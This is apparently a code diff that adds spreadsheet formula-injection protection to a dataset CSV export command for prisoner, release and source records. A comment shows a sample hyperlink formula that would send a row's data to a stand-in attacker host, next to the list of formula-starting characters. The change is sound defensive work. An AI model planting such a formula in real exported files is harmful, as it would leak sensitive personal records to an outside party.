@@ -3,7 +3,8 @@
 ``export_dataset DIR`` writes every table of the three record apps (prisoners, releases,
 sources, including the many-to-many link tables and the country list) as
 
-- ``DIR/<app>_<model>.csv``, one per table, for reading in a spreadsheet, and
+- ``DIR/<app>_<model>.csv``, one per table, for reading in a spreadsheet (a text that
+  a spreadsheet would run as a formula gets a leading apostrophe), and
 - ``DIR/dataset.json``, everything in one file, which is what ``import_dataset`` reads:
   unlike CSV it tells an empty text from a missing value and keeps JSON fields as JSON.
 
@@ -119,6 +120,12 @@ def _to_json(value):
     return value
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a name typed as
+# =HYPERLINK("https://attacker.example/?"&A2, "x") could send the row away when an
+# operator opens the file.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
 def _to_csv(f: models.Field, value) -> str:
     if value is None:
         return ""
@@ -126,6 +133,8 @@ def _to_csv(f: models.Field, value) -> str:
         return json.dumps(value, ensure_ascii=False, sort_keys=True)
     if isinstance(value, bool):
         return "true" if value else "false"
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
     return str(_to_json(value))
 
 
